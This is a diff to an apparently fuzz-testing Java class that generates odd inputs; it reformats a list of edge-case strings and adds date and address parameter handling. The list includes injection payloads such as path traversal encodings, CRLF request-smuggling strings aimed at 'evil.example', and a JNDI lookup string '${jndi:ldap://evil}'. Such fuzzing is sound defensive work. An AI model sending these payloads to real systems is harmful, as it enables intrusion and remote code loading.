@@ -32,11 +32,68 @@ final class Wild {
     private static final int LONG_TEXT = 100_000;
 
     private static final List<String> PIECES = List.of(
-            "a", "Ada", "7", "42", " ", ".", "..", "/", "//", "\\", "%", "%2e", "%2e%2e%2f", "%00", "{}", "{account_id}",
-            "\r\n", "\n", "\r", "\0", "\t", "\u0001", "\u001b[31m", "\u007f", "\u0085", "\u2028", "\"", "'", "`", ";",
-            ",", ":", "?", "#", "&", "=", "+", "@", "[", "]", "[]", "<", ">", "|", "$", "é", "ß", "漢字", "مرحبا",
-            "\u202e", "\u200f", "😀", "👩‍👩‍👧", "\uFEFF", "\uFFFF", " HTTP/1.1\r\nHost: evil.example\r\n\r\n",
-            "\r\nX-Evil: 1\r\n", "GET /evil HTTP/1.1", "null", "true", "$simple{body}", "${jndi:ldap://evil}");
+            "a",
+            "Ada",
+            "7",
+            "42",
+            " ",
+            ".",
+            "..",
+            "/",
+            "//",
+            "\\",
+            "%",
+            "%2e",
+            "%2e%2e%2f",
+            "%00",
+            "{}",
+            "{account_id}",
+            "\r\n",
+            "\n",
+            "\r",
+            "\0",
+            "\t",
+            "\u0001",
+            "\u001b[31m",
+            "\u007f",
+            "\u0085",
+            "\u2028",
+            "\"",
+            "'",
+            "`",
+            ";",
+            ",",
+            ":",
+            "?",
+            "#",
+            "&",
+            "=",
+            "+",
+            "@",
+            "[",
+            "]",
+            "[]",
+            "<",
+            ">",
+            "|",
+            "$",
+            "é",
+            "ß",
+            "漢字",
+            "مرحبا",
+            "\u202e",
+            "\u200f",
+            "😀",
+            "👩‍👩‍👧",
+            "\uFEFF",
+            "\uFFFF",
+            " HTTP/1.1\r\nHost: evil.example\r\n\r\n",
+            "\r\nX-Evil: 1\r\n",
+            "GET /evil HTTP/1.1",
+            "null",
+            "true",
+            "$simple{body}",
+            "${jndi:ldap://evil}");
 
     private static final List<String> HALVES = List.of("\ud83d", "\ude00", "\ude00\ud83d", "a\ud800b");
 
@@ -119,7 +176,8 @@ final class Wild {
             return chance(0.9) ? one(param.words()) : text();
         }
         return switch (param.type()) {
-            case TEXT -> text();
+            case TEXT, ADDRESSES -> text();
+            case MOMENT -> chance(0.5) ? one(List.of(Instant.EPOCH, "2026-01-02T03:04:05Z", 1_767_323_045L)) : text();
             case ID, NUMBER -> id();
             case FLAG -> one(List.of(true, false, "true", "FALSE", " true ", "yes", 1));
             case IDS -> chance(0.5) ? list(this::id) : one(List.of("1,2", 7, List.of(), new Object[] {1, "2"}));
